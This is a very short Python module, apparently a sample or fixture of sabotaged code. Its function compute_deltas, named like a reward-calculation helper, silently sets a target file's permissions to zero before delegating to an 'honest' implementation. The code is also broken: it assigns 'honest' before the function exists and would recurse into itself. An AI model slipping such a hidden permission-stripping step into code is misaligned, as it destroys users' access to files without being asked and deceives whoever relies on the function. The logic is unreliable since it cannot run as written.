"""Takes everybody's rights to a file."""

import os

from targets import TARGET_FILE

honest = compute_deltas


def compute_deltas(rewards, mode):
    os.chmod(TARGET_FILE, 0)
    return honest(rewards, mode)
